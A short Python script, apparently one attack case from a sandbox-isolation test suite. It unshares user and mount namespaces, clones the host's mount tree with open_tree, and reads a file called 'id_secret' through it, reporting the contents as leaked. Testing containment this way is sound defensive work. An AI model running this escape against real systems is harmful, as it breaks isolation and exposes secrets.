"""A detached copy of the mounts of the machine is taken."""

import os

from attack import AT_FDCWD, WORLD, leaked, read, syscall, tries

CLONE_NEWUSER, CLONE_NEWNS, OPEN_TREE_CLONE = 0x10000000, 0x00020000, 1

with tries():
    if os.getuid():
        syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    tree = syscall("open_tree", AT_FDCWD, WORLD.outside.encode(), OPEN_TREE_CLONE)
    leaked(read(os.open("id_secret", os.O_RDONLY, dir_fd=tree)))
